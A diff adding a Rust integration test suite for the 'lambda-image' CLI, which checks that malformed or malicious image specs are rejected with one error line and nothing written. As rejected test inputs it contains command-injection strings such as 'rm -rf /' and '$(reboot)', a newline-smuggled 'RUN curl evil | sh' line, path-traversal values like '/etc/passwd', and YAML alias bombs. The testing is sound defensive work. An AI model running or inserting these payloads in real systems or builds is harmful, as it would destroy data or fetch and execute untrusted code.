@@ -1,0 +1,545 @@
+//! Image spec validation through the CLI: every bad spec gives one line naming the file and
+//! position, exit 2, and writes nothing.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+const BIN: &str = env!("CARGO_BIN_EXE_lambda-image");
+
+struct Case {
+    _tmp: tempfile::TempDir,
+    root: PathBuf,
+    dir: PathBuf,
+}
+
+/// `images/fn/image.yaml` with `yaml`, plus files, in a fresh folder.
+fn case(yaml: &str, files: &[(&str, &str)]) -> Case {
+    let tmp = tempfile::tempdir().expect("tempdir");
+    let root = tmp.path().to_path_buf();
+    let dir = root.join("images/fn");
+    std::fs::create_dir_all(&dir).expect("mkdir");
+    std::fs::write(dir.join("image.yaml"), yaml).expect("write");
+    for (name, text) in files {
+        let p = dir.join(name);
+        if let Some(parent) = p.parent() {
+            std::fs::create_dir_all(parent).expect("mkdir");
+        }
+        std::fs::write(p, text).expect("write");
+    }
+    Case {
+        _tmp: tmp,
+        root,
+        dir,
+    }
+}
+
+fn run(c: &Case, args: &[&str]) -> Output {
+    Command::new(BIN)
+        .args(args)
+        .current_dir(&c.root)
+        .output()
+        .expect("run")
+}
+
+fn listing(dir: &Path) -> Vec<String> {
+    let mut v: Vec<String> = walk(dir);
+    v.sort();
+    v
+}
+
+fn walk(dir: &Path) -> Vec<String> {
+    let mut out = Vec::new();
+    for e in std::fs::read_dir(dir).expect("read") {
+        let e = e.expect("entry");
+        out.push(e.path().display().to_string());
+        if e.path().is_dir() && !e.path().is_symlink() {
+            out.extend(walk(&e.path()));
+        }
+    }
+    out
+}
+
+/// Renders with `--write` and expects exactly `lambda-image: error: <want>`, exit 2, nothing written.
+fn expect_error(c: &Case, want: &str) {
+    let before = listing(&c.root);
+    let out = run(c, &["render", "--write", "images/fn"]);
+    let err = String::from_utf8_lossy(&out.stderr).to_string();
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert_eq!(err.lines().count(), 1, "one line: {err}");
+    assert_eq!(err.trim_end(), format!("lambda-image: error: {want}"));
+    assert!(out.stdout.is_empty());
+    assert_eq!(listing(&c.root), before, "something was written");
+}
+
+const OK: &str = "runtime: python3.13\nhandler: app.handler\ncopy: [{src: app.py}]\n";
+
+#[test]
+fn valid_spec_renders() {
+    let c = case(OK, &[("app.py", "")]);
+    let out = run(&c, &["render", "images/fn"]);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+#[test]
+fn unknown_field_names_line_column_and_the_expected_fields() {
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\n\npakages: [libpq]\n",
+        &[],
+    );
+    expect_error(
+        &c,
+        "images/fn/image.yaml:4:1: unknown field 'pakages', expected one of runtime, base, architectures, packages, build_packages, requirements, copy, bootstrap, handler, env, labels, tags, verify",
+    );
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\ncopy:\n  - {src: app.py, dset: x}\n",
+        &[("app.py", "")],
+    );
+    expect_error(
+        &c,
+        "images/fn/image.yaml:4:19: unknown field 'dset', expected one of src, dest, build_output",
+    );
+}
+
+#[test]
+fn wrong_types() {
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\npackages: libpq\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:11: expected a list");
+    let c = case("runtime: python3.13\nhandler: [app.handler]\n", &[]);
+    expect_error(&c, "images/fn/image.yaml:2:10: expected string scalar");
+    let c = case("- runtime\n", &[]);
+    expect_error(
+        &c,
+        "images/fn/image.yaml:1:1: expected a mapping (key: value)",
+    );
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nenv: {A: {b: c}}\n",
+        &[],
+    );
+    expect_error(
+        &c,
+        "images/fn/image.yaml:3:10: invalid type: map, expected a string, number or boolean",
+    );
+}
+
+#[test]
+fn missing_fields_and_yaml_errors() {
+    let c = case("handler: app.handler\n", &[]);
+    expect_error(&c, "images/fn/image.yaml:1:1: missing field 'runtime'");
+    let c = case("runtime: python3.13\n", &[]);
+    expect_error(&c, "images/fn/image.yaml: missing field 'handler' (for python3.13 it looks like 'app.handler')");
+    let c = case("", &[]);
+    expect_error(
+        &c,
+        "images/fn/image.yaml: the spec is empty; it needs at least `runtime:` (and `handler:`)",
+    );
+    let c = case("runtime: python3.13\nhandler: 'app.handler\n", &[]);
+    expect_error(&c, "images/fn/image.yaml:2:10: unclosed quote");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nruntime: python3.12\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:1: duplicate key 'runtime'");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\n---\nruntime: python3.12\n",
+        &[],
+    );
+    expect_error(
+        &c,
+        "images/fn/image.yaml:3:1: an image spec is one YAML document; remove the '---' separator",
+    );
+    let tmp = tempfile::tempdir().expect("tempdir");
+    let out = Command::new(BIN)
+        .args(["render", "nowhere"])
+        .current_dir(tmp.path())
+        .output()
+        .expect("run");
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.starts_with("lambda-image: error: nowhere: no image spec here"),
+        "{err}"
+    );
+    assert_eq!(err.lines().count(), 1);
+}
+
+#[test]
+fn unknown_runtime_lists_the_supported_ones() {
+    let c = case("runtime: cobol1\nhandler: app.handler\n", &[]);
+    expect_error(
+        &c,
+        "images/fn/image.yaml:1:10: unknown runtime 'cobol1', expected one of python3.12, python3.13, python3.14, nodejs20.x, nodejs22.x, nodejs24.x, java21, java25, ruby3.3, ruby3.4, dotnet8, dotnet10, provided.al2023",
+    );
+    let c = case("runtime: python3.11\nhandler: app.handler\n", &[]);
+    expect_error(
+        &c,
+        "images/fn/image.yaml:1:10: runtime 'python3.11' runs on Amazon Linux 2; lambda-image renders Amazon Linux 2023 images (supported: python3.12, python3.13, python3.14, nodejs20.x, nodejs22.x, nodejs24.x, java21, java25, ruby3.3, ruby3.4, dotnet8, dotnet10, provided.al2023)",
+    );
+}
+
+#[test]
+fn invalid_handlers() {
+    for (runtime, handler, expected) in [
+        (
+            "python3.13",
+            "app",
+            "module.function, e.g. app.handler or pkg/mod.handler",
+        ),
+        (
+            "python3.13",
+            "'app.handler; rm -rf /'",
+            "module.function, e.g. app.handler or pkg/mod.handler",
+        ),
+        (
+            "nodejs22.x",
+            "'index.handler\"]'",
+            "file.export, e.g. app.handler or src/index.handler",
+        ),
+        (
+            "java21",
+            "'a b'",
+            "package.Class or package.Class::method, e.g. example.Handler::handleRequest",
+        ),
+        (
+            "dotnet8",
+            "Hello.Function::Handler",
+            "Assembly::Namespace.Class::Method, e.g. Hello::Hello.Function::Handler",
+        ),
+        (
+            "ruby3.3",
+            "app.lambda::x",
+            "file.method or file.Module::Class.method, e.g. app.LambdaFunction::Handler.process",
+        ),
+    ] {
+        let c = case(&format!("runtime: {runtime}\nhandler: {handler}\n"), &[]);
+        let shown = handler.trim_matches('\'');
+        let family = runtime
+            .trim_end_matches(|c: char| !c.is_ascii_alphabetic())
+            .trim_end_matches(".x");
+        let family = family.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        expect_error(
+            &c,
+            &format!("images/fn/image.yaml:2:10: handler: invalid {family} handler '{shown}', expected {expected}"),
+        );
+    }
+}
+
+#[test]
+fn invalid_package_names() {
+    for (pkg, what) in [
+        ("'foo; rm -rf /'", "';' is not allowed"),
+        ("'foo bar'", "a space is not allowed"),
+        ("'$(reboot)'", "'$' is not allowed"),
+        ("'@Development Tools'", "'@' is not allowed"),
+        ("./local.rpm", "'/' is not allowed"),
+    ] {
+        let c = case(
+            &format!("runtime: python3.13\nhandler: app.handler\npackages: [{pkg}]\n"),
+            &[],
+        );
+        let shown = pkg.trim_matches('\'');
+        expect_error(
+            &c,
+            &format!("images/fn/image.yaml:3:12: packages: '{shown}' is not a valid RPM package name: {what} (use letters, digits and . _ + -, optionally name-version)"),
+        );
+    }
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\npackages: [-y]\n",
+        &[],
+    );
+    expect_error(
+        &c,
+        "images/fn/image.yaml:3:12: packages: '-y' is not a valid RPM package name: it must start with a letter, digit, '_' or '+'",
+    );
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\npackages: [libpq, libpq]\n",
+        &[],
+    );
+    expect_error(
+        &c,
+        "images/fn/image.yaml:3:19: packages: 'libpq' is listed twice",
+    );
+}
+
+#[test]
+fn build_packages_need_something_to_build() {
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nbuild_packages: [gcc]\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:18: build_packages: nothing is built in the image without `requirements`; remove build_packages (use packages for libraries the function needs at run time)");
+    let c = case(
+        "runtime: java21\nhandler: a.B\nrequirements: pom.xml\n",
+        &[("pom.xml", "")],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:15: requirements: java21 images take the outputs of the project's own build through `copy` (jars, a publish folder, a bootstrap); they install no dependency manifest");
+}
+
+#[test]
+fn dependency_manifests_and_lock_files() {
+    let c = case(
+        "runtime: nodejs22.x\nhandler: app.handler\nrequirements: package.json\n",
+        &[("package.json", "{}")],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:15: requirements: package-lock.json is missing next to package.json; npm ci needs it for a reproducible install");
+    let c = case(
+        "runtime: ruby3.3\nhandler: app.handler\nrequirements: deps.rb\n",
+        &[("deps.rb", "")],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:15: requirements: ruby3.3 installs from a file named Gemfile, not 'deps.rb'");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nrequirements: reqs.txt\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:15: requirements: 'reqs.txt' does not exist in images/fn (mark build outputs with build_output: true)");
+}
+
+#[test]
+fn env_keys() {
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nenv: {'A=1 B': x}\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:7: env: invalid environment variable name 'A=1 B': use letters, digits and '_', not starting with a digit");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nenv: {LAMBDA_TASK_ROOT: /tmp}\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:7: env: environment variable 'LAMBDA_TASK_ROOT' is set by the Lambda base image and must not be overridden");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nenv:\n  LAMBDA_RUNTIME_DIR: /tmp\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:4:3: env: environment variable 'LAMBDA_RUNTIME_DIR' is set by the Lambda base image and must not be overridden");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nlabels: {'a\"b': x}\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:10: labels: invalid label key 'a\"b': use letters, digits and . _ - /, starting and ending with a letter or digit");
+}
+
+#[test]
+fn newlines_and_control_characters_are_rejected() {
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nenv: {A: \"x\\nRUN curl evil | sh\"}\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:10: env.A: value contains the control character \\u{a}; newlines, tabs, NUL and other control characters are not allowed");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nlabels: {a: \"x\\u0000y\"}\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:13: labels.a: value contains the control character \\u{0}; newlines, tabs, NUL and other control characters are not allowed");
+    // A YAML block scalar keeps its newline.
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nenv:\n  A: |\n    line one\n    CMD [\"x\"]\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:5:5: env.A: value contains the control character \\u{a}; newlines, tabs, NUL and other control characters are not allowed");
+    let c = case("runtime: python3.13\nhandler: \"app.handler\\r\"\n", &[]);
+    expect_error(&c, "images/fn/image.yaml:2:10: handler: value contains the control character \\u{d}; newlines, tabs, NUL and other control characters are not allowed");
+}
+
+#[test]
+fn paths_stay_inside_the_spec_folder() {
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: ../secret}]\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:14: copy.src: path '../secret' uses '..'; paths must stay inside the spec's folder");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: /etc/passwd}]\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:14: copy.src: '/etc/passwd' is an absolute path; paths are relative to the spec's folder");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: app.py, dest: ../../etc/}]\n",
+        &[("app.py", "")],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:28: copy.dest: path '../../etc/' uses '..'; paths must stay inside the spec's folder (dest is relative to LAMBDA_TASK_ROOT)");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: '$HOME/x'}]\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:14: copy.src: path '$HOME/x' contains '$'; paths may use letters, digits and . _ - + @ = , /");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: 'a b'}]\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:14: copy.src: path 'a b' contains a space; paths may use letters, digits and . _ - + @ = , /");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nverify: ../manifest.yaml\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:9: verify: path '../manifest.yaml' uses '..'; paths must stay inside the spec's folder");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nrequirements: /tmp/requirements.txt\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:15: requirements: '/tmp/requirements.txt' is an absolute path; paths are relative to the spec's folder");
+}
+
+#[cfg(unix)]
+#[test]
+fn symlinks_escaping_the_folder_are_rejected() {
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: link}]\n",
+        &[],
+    );
+    std::os::unix::fs::symlink(&c.root, c.dir.join("link")).expect("symlink");
+    let root = c.root.canonicalize().expect("canon");
+    expect_error(
+        &c,
+        &format!("images/fn/image.yaml:3:14: copy.src: 'link' resolves to {} (through a symlink), outside the spec's folder", root.display()),
+    );
+    // A build output under a symlinked folder is checked too, even though it does not exist yet.
+    let c = case(
+        "runtime: java21\nhandler: a.B\ncopy: [{src: target/classes/, build_output: true}]\n",
+        &[],
+    );
+    std::os::unix::fs::symlink(&c.root, c.dir.join("target")).expect("symlink");
+    let root = c.root.canonicalize().expect("canon");
+    expect_error(
+        &c,
+        &format!("images/fn/image.yaml:3:14: copy.src: 'target/classes/' resolves to {} (through a symlink), outside the spec's folder", root.display()),
+    );
+    // A symlink that stays inside is fine.
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: link.py}]\n",
+        &[("app.py", "")],
+    );
+    std::os::unix::fs::symlink("app.py", c.dir.join("link.py")).expect("symlink");
+    assert_eq!(run(&c, &["render", "images/fn"]).status.code(), Some(0));
+}
+
+#[test]
+fn architectures_and_tags() {
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\narchitectures: []\n",
+        &[],
+    );
+    expect_error(
+        &c,
+        "images/fn/image.yaml:3:16: architectures: the list is empty; use x86_64, arm64 or both",
+    );
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\narchitectures: [amd64]\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:17: architectures: unknown architecture 'amd64', expected x86_64 or arm64");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\narchitectures: [arm64, arm64]\n",
+        &[],
+    );
+    expect_error(
+        &c,
+        "images/fn/image.yaml:3:24: architectures: 'arm64' is listed twice",
+    );
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\ntags: ['Orders:latest']\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:8: tags: 'Orders:latest' is not a valid image reference, expected [registry/]name[:tag][@sha256:digest]");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nbase: 'python:3.13 AS x'\n",
+        &[],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:7: base: 'python:3.13 AS x' is not a valid image reference, expected [registry/]name[:tag][@sha256:digest]");
+    let c = case("runtime: python3.13\nhandler: app.handler\nbase: 'public.ecr.aws/lambda/python:3.13@sha256:1234'\n", &[]);
+    expect_error(&c, "images/fn/image.yaml:3:7: base: 'public.ecr.aws/lambda/python:3.13@sha256:1234' has an invalid digest: expected sha256: and 64 lowercase hex digits");
+}
+
+#[test]
+fn huge_values_hit_a_size_limit() {
+    // A 1 MB value: the whole file is refused before parsing.
+    let big = format!(
+        "runtime: python3.13\nhandler: app.handler\nenv: {{A: '{}'}}\n",
+        "x".repeat(1024 * 1024)
+    );
+    let c = case(&big, &[]);
+    let size = big.len();
+    expect_error(&c, &format!("images/fn/image.yaml: the file is {size} bytes; an image spec may be at most 262144 bytes"));
+    // A value over the per-value limit in a file under the file limit.
+    let long = format!(
+        "runtime: python3.13\nhandler: app.handler\nenv: {{A: '{}'}}\n",
+        "x".repeat(5000)
+    );
+    let c = case(&long, &[]);
+    expect_error(
+        &c,
+        "images/fn/image.yaml:3:10: env.A: value is 5000 bytes long; the limit is 4096",
+    );
+}
+
+#[test]
+fn alias_bombs_stop_at_the_budget() {
+    let mut bomb =
+        String::from("runtime: python3.13\nhandler: app.handler\nlabels: {a: &a x}\npackages: [");
+    for _ in 0..1000 {
+        bomb.push_str("*a, ");
+    }
+    bomb.push_str("x]\n");
+    let c = case(&bomb, &[]);
+    let started = std::time::Instant::now();
+    let out = run(&c, &["render", "--write", "images/fn"]);
+    assert!(started.elapsed() < std::time::Duration::from_secs(5));
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(err.lines().count(), 1, "{err}");
+    assert!(
+        err.starts_with("lambda-image: error: images/fn/image.yaml:4:"),
+        "{err}"
+    );
+    assert!(err.contains("alias expansion limit exceeded"), "{err}");
+    assert!(!c.dir.join("Dockerfile").exists());
+
+    // The classic nested bomb: refused, quickly, in one line.
+    let lol = "runtime: python3.13\nhandler: app.handler\nlabels: &l0 {a: x}\nenv:\n  A: &a [*l0,*l0,*l0,*l0,*l0,*l0,*l0,*l0,*l0]\n  B: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n  C: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n  D: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n";
+    let c = case(lol, &[]);
+    let started = std::time::Instant::now();
+    let out = run(&c, &["render", "--write", "images/fn"]);
+    assert!(started.elapsed() < std::time::Duration::from_secs(5));
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(String::from_utf8_lossy(&out.stderr).lines().count(), 1);
+}
+
+#[test]
+fn provided_needs_an_executable_bootstrap() {
+    let c = case("runtime: provided.al2023\n", &[]);
+    expect_error(&c, "images/fn/image.yaml:1:10: provided.al2023 needs `bootstrap: {src: <executable>}` (copied to ${LAMBDA_RUNTIME_DIR}/bootstrap)");
+    let c = case(
+        "runtime: python3.13\nhandler: app.handler\nbootstrap: {src: bootstrap}\n",
+        &[("bootstrap", "")],
+    );
+    expect_error(&c, "images/fn/image.yaml:3:12: bootstrap: only provided.al2023 images take a bootstrap; python3.13 has its own");
+    #[cfg(unix)]
+    {
+        let c = case(
+            "runtime: provided.al2023\nbootstrap: {src: bootstrap}\n",
+            &[("bootstrap", "#!/bin/sh\n")],
+        );
+        expect_error(&c, "images/fn/image.yaml:2:18: bootstrap.src: 'bootstrap' is not executable (chmod +x it; COPY keeps the mode)");
+    }
+    // A compiled bootstrap that the build produces later.
+    let c = case(
+        "runtime: provided.al2023\nbootstrap: {src: target/lambda/fn/bootstrap, build_output: true}\n",
+        &[],
+    );
+    let out = run(&c, &["render", "images/fn"]);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("COPY target/lambda/fn/bootstrap ${LAMBDA_RUNTIME_DIR}/bootstrap\n"));
+    assert!(text.ends_with("CMD [\"bootstrap\"]\n"), "{text}");
+}
